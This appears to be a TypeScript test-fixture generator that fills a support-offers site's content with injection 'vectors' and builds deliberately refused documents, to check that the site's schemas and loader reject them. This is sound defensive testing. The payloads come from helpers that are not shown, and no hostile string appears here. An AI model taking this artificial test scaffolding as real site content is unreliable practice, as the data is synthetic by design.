  const lightOfferSlugs = Array.from({ length: 6 }, (_, i) => `hostile-offer-${i + 6}`);
  const amountTypes = ['money', 'free', 'none', 'money', 'money', 'money'] as const;
  const offer = (slug: string, i: number, sourceUrl: () => string | null, light = false) => {
    const L = `offers "${slug}"`;
    const date = (field: string) => `2026-0${(i % 9) + 1}-1${i % 9}${p.text(`${L} ${field} (after the date)`)}`;
    return {
      slug,
      uuid: uuidFrom(PLATFORM_NAMESPACE, `hostile offers ${slug}`),
      title: p.text(`${L} title`),
      summary: p.text(`${L} summary`, 200),
      body: light ? lightBody(`${L} body`) : body(`${L} body`, checks.link, termWords(i)),
      area: areaSlugs[i % 3],
      kind: i % 2 ? 'local' : 'national',
      eligibility: {
        ageFrom: 16 + (i % 3),
        ageTo: 21 + (i % 5),
        careStatus: CARE_STATUSES.filter((_, j) => (i + j) % 2 === 0),
        circumstances: CIRCUMSTANCES.filter((_, j) => (i + j) % 3 === 0),
        notes: `${glossary[(i + 3) % 6]!.term} ${p.text(`${L} eligibility.notes`)}`,
      },
      amount: {
        type: amountTypes[i % amountTypes.length],
        value: amountTypes[i % amountTypes.length] === 'money' ? 100 + i * 250 : null,
        period: (['once', 'weekly', 'monthly', 'yearly'] as const)[i % 4],
        nationalMinimum: i % 2 ? 3000 : null,
        note: p.text(`${L} amount.note`),
      },
      howToGet: [p.text(`${L} howToGet.0`), `${glossary[(i + 4) % 6]!.aliases[1]} ${p.text(`${L} howToGet.1`)}`, p.text(`${L} howToGet.2`)],
      whoToAsk: p.text(`${L} whoToAsk`),
      ifRefused: p.text(`${L} ifRefused`),
      legalBasis: p.text(`${L} legalBasis`),
      sourceUrl: sourceUrl(),
      lastReviewed: date('lastReviewed'),
      nextReview: date('nextReview'),
      credits: [p.text(`${L} credits.0`), p.text(`${L} credits.1`)],
      updatedAt: `2026-10-01T10:00:00.000Z${p.text(`${L} updatedAt (after the date)`)}`,
    };
  };
  const offers = [...offerSlugs, ...lightOfferSlugs].map((slug, i) =>
    offer(slug, i, () => p.take(WEB_URLS, `offers "${slug}" sourceUrl`, checks.web), i >= offerSlugs.length),
  );

  // Guides and chapters -------------------------------------------------------------------
  const guide = (slug: string, gi: number) => {
    const L = `guides "${slug}"`;
    const chapterSlugs = gi === 0 ? ['hostile-chapter-1', 'if-things-go-wrong', 'hostile-chapter-3'] : ['hostile-chapter-4', 'hostile-chapter-5', 'hostile-chapter-6'];
    return {
      slug,
      title: p.text(`${L} title`),
      summary: p.text(`${L} summary`, 200),
      intro: body(`${L} intro`, checks.link, termWords(gi + 2)),
      chapters: chapterSlugs.map((cs, ci) => ({
        slug: cs,
        title: cs === 'if-things-go-wrong' ? `If things go wrong ${p.text(`${L} chapters.${ci}.title (after "If things go wrong")`)}` : p.text(`${L} chapters.${ci}.title`),
        summary: p.text(`${L} chapters.${ci}.summary`, 200),
        body: body(`${L} chapters.${ci}.body`, checks.link, termWords(gi + ci)),
        relatedOffers: [offerSlugs[(gi + ci) % offerSlugs.length]!, offerSlugs[(gi + ci + 2) % offerSlugs.length]!],
        // What a chapter rests on and a council's local part of a national one (issue 20).
        legalBasis: p.text(`${L} chapters.${ci}.legalBasis`),
        sources: [{ title: p.text(`${L} chapters.${ci}.sources.0.title`), url: p.take(WEB_URLS, `${L} chapters.${ci}.sources.0.url`, checks.web) }],
        national: ci === 0,
        local: { whoToAsk: p.text(`${L} chapters.${ci}.local.whoToAsk`), steps: [p.text(`${L} chapters.${ci}.local.steps.0`)], note: p.text(`${L} chapters.${ci}.local.note`) },
      })),
      credits: [p.text(`${L} credits.0`)],
      updatedAt: p.text(`${L} updatedAt`),
    };
  };
  const guides = ['hostile-guide-1', 'hostile-guide-2'].map(guide);

  // Spotlights ----------------------------------------------------------------------------
  const themes = schemas.SPOTLIGHT_THEMES;
  const spotlight = (slug: string, i: number, mediaUrl: (sub: string) => string, withImage = true, light = false) => {
    const L = `spotlights "${slug}"`;
    return {
      slug,
      councils: [{ name: p.text(`${L} council`), onsCode: 'E09000024', type: 'london-borough', region: 'london', isDemo: false }],
      title: p.text(`${L} title`),
      summary: p.text(`${L} summary`, 420),
      themes: [themes[i % themes.length], themes[(i + 3) % themes.length]],
      team: p.text(`${L} team`),
      partners: [p.text(`${L} partners.0`), p.text(`${L} partners.1`)],
      contactRole: p.text(`${L} contactRole`),
      body: light ? lightBody(`${L} body`) : body(`${L} body`, checks.link, termWords(i + 1)),
      outcomes: [
        { label: p.text(`${L} outcomes.0.label`), value: 12, unit: p.text(`${L} outcomes.0.unit`), period: p.text(`${L} outcomes.0.period`), kind: 'housing' },
        { label: p.text(`${L} outcomes.1.label`), value: 1500, unit: 'GBP', period: null },
        { label: p.text(`${L} outcomes.2.label`), value: 75, unit: '%', period: p.text(`${L} outcomes.2.period`) },
      ],
      facts: [{ label: p.text(`${L} facts.0.label`), value: 4, unit: p.text(`${L} facts.0.unit`), period: p.text(`${L} facts.0.period`) }],
      contact: { phone: p.text(`${L} contact.phone`), website: 'https://www.example.org/' },
      milestones: [{ label: p.text(`${L} milestones.0.label`), when: p.text(`${L} milestones.0.when`) }],
      source: { collection: p.text(`${L} source.collection`), year: 2024 },
      image: withImage
        ? {
            id: p.text(`${L} image.id`),
            url: noteMedia(mediaUrl(`${L} image.url`)),
            alt: p.text(`${L} image.alt`),
            width: 1200,
            height: 800,
            caption: p.text(`${L} image.caption`),
            sizes: [
              { url: noteMedia(mediaUrl(`${L} image.sizes.0.url`)), width: 480 },
              { url: noteMedia(mediaUrl(`${L} image.sizes.1.url`)), width: 800 },
            ],
          }
        : null,
      credits: [p.text(`${L} credits.0`)],
      updatedAt: p.text(`${L} updatedAt`),
    };
  };
  const spotlights = ['hostile-spotlight-1', 'hostile-spotlight-2', 'hostile-spotlight-3'].map((slug, i) =>
    spotlight(slug, i, (where) => p.take(MEDIA_URLS, where, checks.media), i < 2),
  );

  // Pledges -------------------------------------------------------------------------------
  const statuses = ['done', 'in-progress', 'not-yet', 'done'] as const;
  const pledges = statuses.map((status, i) => {
    const slug = `hostile-pledge-${i + 1}`;
    const L = `pledges "${slug}"`;
    return {
      slug,
      youSaid: p.text(`${L} youSaid`),
      weDid: p.text(`${L} weDid`),
      status,
      askedAt: p.text(`${L} askedAt`),
      askedOn: `2026-03-1${i}${p.text(`${L} askedOn (after the date)`)}`,
      updatedOn: i % 2 ? null : `2026-09-0${i + 1}${p.text(`${L} updatedOn (after the date)`)}`,
      area: areaSlugs[i % 3],
    };
  });

  // Indicators ----------------------------------------------------------------------------
  const placeKinds = ['council', 'statistical-neighbours', 'region', 'england'] as const;
  const indicators = ['hostile-indicator-1', 'hostile-indicator-2'].map((slug, i) => {
    const L = `indicators "${slug}"`;
    return {
      slug,
      title: p.text(`${L} title`),
      description: `${glossary[i]!.term} ${p.text(`${L} description`)}`,
      unit: 'percent',
      figures: placeKinds.map((placeKind, j) => ({
        period: p.text(`${L} figures.${j}.period`),
        place: p.text(`${L} figures.${j}.place`),
        placeKind,
        value: 40 + j * 12 + i,
        isDemo: j % 2 === 0,
        source: p.text(`${L} figures.${j}.source`),
      })),
    };
  });

  const snapshot: Json = {
    generatedAt: p.text('snapshot generatedAt'),
    authority,
    areas,
    offers,
    guides,
    spotlights,
    glossary,
    pledges,
    indicators,
    // What people type, for search: the search page shows these words back to the reader.
    searchWords: [0, 1, 2].map((i) => ({
      says: [p.text(`searchWords.${i}.says.0`), p.text(`searchWords.${i}.says.1`)],
      means: p.text(`searchWords.${i}.means`),
      urgent: i === 0,
    })),
  };
  const placements = [...p.placements];

  // Documents built to be refused: URL fields holding what the schema refuses, one document
  // per refused vector (light ones: their other fields hold vectors too, but their bodies
  // are short), and one guide whose links are all refused.
  const refused: Built['refused'] = [];
  const refusedStart = p.placements.length;
  const refuse = (collection: string, slug: string, doc: Json) => {
    refused.push({ collection, slug, path: `/${collection}/${slug}/`, doc, problems: [] });
  };
  const refusedWeb = URLS.filter((u) => !checks.web(u.make('hx9999')));
  refusedWeb.forEach((_, k) => {
    const slug = `refused-offer-${k + 1}`;
    const doc = offer(slug, k, () => p.take(refusedWeb, `offers "${slug}" sourceUrl (refused)`), true);
    refuse('offers', slug, doc);
  });
  const refusedMedia = MEDIA_URLS.filter((u) => !checks.media(u.make('hx9999')));
  refusedMedia.forEach((_, k) => {
    const slug = `refused-spotlight-${k + 1}`;
    refuse('spotlights', slug, spotlight(slug, k, (where) => p.take(refusedMedia, `${where} (refused)`), true, true));
  });
  const refusedLinks = URLS.filter((u) => !checks.link(u.make('hx9999')));
  if (refusedLinks.length) {
    const slug = 'refused-guide-links';
    const L = `guides "${slug}"`;
    const links = (where: string) => ({
      root: {
        type: 'root',
        children: [
          paragraph(
            refusedLinks.flatMap((template, k) => [
              k % 2
                ? { type: 'link', url: p.take([template], `${where}.children.0.children.${k * 2}.url (refused)`), children: [text(p.text(`${where} link ${k} text`))] }
                : { type: 'link', fields: { url: p.take([template], `${where}.children.0.children.${k * 2}.fields.url (refused)`), linkType: 'custom' }, children: [text(p.text(`${where} link ${k} text`))] },
              text(' '),
            ]),
          ),
        ],
      },
    });
    refuse('guides', slug, {
      slug,
      title: p.text(`${L} title`),
      summary: p.text(`${L} summary`, 200),
      intro: links(`${L} intro`),
      chapters: [{ slug: 'refused-chapter', title: p.text(`${L} chapters.0.title`), summary: p.text(`${L} chapters.0.summary`, 200), body: lightBody(`${L} chapters.0.body`), relatedOffers: [] }],
      credits: [],
      updatedAt: p.text(`${L} updatedAt`),
    });
  }
  const refusedPlacements = p.placements.slice(refusedStart);

  // Every document meant to pass must pass; every refused one must fail, for a reason we can show.
  const collectionSchema: Record<string, { safeParse: (v: unknown) => { success: boolean; error?: { issues: { path: PropertyKey[]; message: string }[] } } }> = {
    areas: schemas.areaSchema,
    offers: schemas.offerSchema,
    guides: schemas.guideSchema,
    spotlights: schemas.spotlightSchema,
    glossary: schemas.glossarySchema,
    pledges: schemas.pledgeSchema,
    indicators: schemas.indicatorSchema,
  };
  const broken: string[] = [];
  const auth = schemas.authoritySchema.safeParse(authority);
  if (!auth.success) broken.push(`authority: ${auth.error.issues.map((x) => `${x.path.join('.')}: ${x.message}`).join('; ')}`);
  for (const [collection, schema] of Object.entries(collectionSchema)) {
    for (const doc of snapshot[collection] as Json[]) {
      const result = schema.safeParse(doc);
      if (!result.success) {
        broken.push(`${collection} "${String(doc.slug)}": ${result.error!.issues.map((x) => `${x.path.join('.')}: ${x.message}`).join('; ')}`);
      }
    }
  }
  if (broken.length) throw new Error(`hostileSnapshot: documents meant to pass the schema fail it:\n  ${broken.join('\n  ')}`);
  for (const r of refused) {
    const result = collectionSchema[r.collection]!.safeParse(r.doc);
    if (result.success) throw new Error(`hostileSnapshot: ${r.collection} "${r.slug}" was meant to fail its schema but passes`);
    r.problems = result.error!.issues.map((x) => `${x.path.join('.')}: ${x.message.slice(0, 160)}`);
  }

  return { snapshot, placements, refused, refusedPlacements, mediaFiles: [...mediaFiles] };
}

/** A 1×1 PNG, for the media urls that name a plain file. */
const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==',
  'base64',
);

/**
 * Runs the site's own loader check (`validateSnapshot`) on the snapshot: it must not throw,
 * and it must report every document built to be refused (and leave it out).
 */
async function checkLoaderLeavesOut(snapshot: Json, refused: Built['refused']): Promise<string[]> {
  const { validateSnapshot } = await import('@site/loaders/payloadSnapshot');
  let result: { excluded?: string[] };
  try {
    result = validateSnapshot(structuredClone(snapshot), 'hostile snapshot') as { excluded?: string[] };
  } catch (error) {
    throw new Error(
      `The site's loader fails the whole build for the documents built to be refused (set HOSTILE_REFUSED=omit to leave them out of the snapshot):\n${(error as Error).message.slice(0, 2000)}`,
    );
  }
  const excluded = result.excluded ?? [];
  const unreported = refused.filter((r) => !excluded.some((line) => line.startsWith(`${r.collection} "${r.slug}"`)));
  if (unreported.length) {
    throw new Error(`The site's loader does not report these refused documents: ${unreported.map((r) => `${r.collection} "${r.slug}"`).join(', ')}`);
  }
  return excluded;
}

/** Writes `snapshot.json`, `media/` and `vectors.json` under `dir`. */
export async function writeHostileSnapshot(dir = hostileSnapshotDir, log: (line: string) => void = console.log): Promise<HostileManifest> {
  const built = await generate();
  const withRefused = structuredClone(built.snapshot);
  for (const r of built.refused) (withRefused[r.collection] as Json[]).push(r.doc);

  // Always included; `HOSTILE_REFUSED=omit` builds without them (for code from before the
  // loader left bad documents out, when one of them failed the whole build).
  const includeRefused = process.env.HOSTILE_REFUSED !== 'omit';
  const excluded = includeRefused ? await checkLoaderLeavesOut(withRefused, built.refused) : [];

  rmSync(dir, { recursive: true, force: true });
  mkdirSync(path.join(dir, 'media'), { recursive: true });
  for (const name of built.mediaFiles) writeFileSync(path.join(dir, 'media', name), PNG);
  writeFileSync(path.join(dir, 'snapshot.json'), `${JSON.stringify(includeRefused ? withRefused : built.snapshot, null, 1)}\n`);

  const manifest: HostileManifest = {
    placed: built.placements.length + (includeRefused ? built.refusedPlacements.length : 0),
    inRefused: built.refusedPlacements.length,
    refusedIncluded: includeRefused,
    refusedDocuments: built.refused.map(({ collection, slug, path: p, problems }) => ({ collection, slug, path: p, problems })),
    placements: [...built.placements, ...built.refusedPlacements],
  };
  writeFileSync(path.join(dir, 'vectors.json'), `${JSON.stringify(manifest, null, 1)}\n`);

  const names = new Set(built.placements.map((x) => x.vector));
  log(
    `Hostile snapshot: ${built.placements.length} vectors (${names.size} kinds) in documents that pass the schema` +
      `; ${built.refusedPlacements.length} more in ${built.refused.length} documents it refuses, ` +
      (includeRefused ? `included (the loader leaves them out and reports ${excluded.length} problems)` : 'left out of the snapshot (HOSTILE_REFUSED=omit)') +
      `: ${manifest.placed} placed in all.`,
  );
  return manifest;
}

/** Writes the hostile snapshot and builds the site from it into `.e2e/hostile-site`. */
export async function buildHostileSite(): Promise<void> {
  const started = Date.now();
  const manifest = await writeHostileSnapshot();
  const { buildSite } = await import('@platform/build/buildSite');
  await buildSite({ snapshotDir: hostileSnapshotDir, outDir: hostileSiteDir, siteUrl: HOSTILE_BUILD_URL, log: () => {} });
  const missing = manifest.refusedDocuments.filter((r) => existsSync(path.join(hostileSiteDir, r.path, 'index.html')));
  if (missing.length) throw new Error(`Refused documents became pages: ${missing.map((r) => r.path).join(', ')}`);
  console.log(`Built the hostile site in ${((Date.now() - started) / 1000).toFixed(1)} s: ${hostileSiteDir}`);
}

if (process.argv[1] && import.meta.url === pathToFileURL(process.argv[1]).href) {
  await buildHostileSite();
  process.exit(0);
}
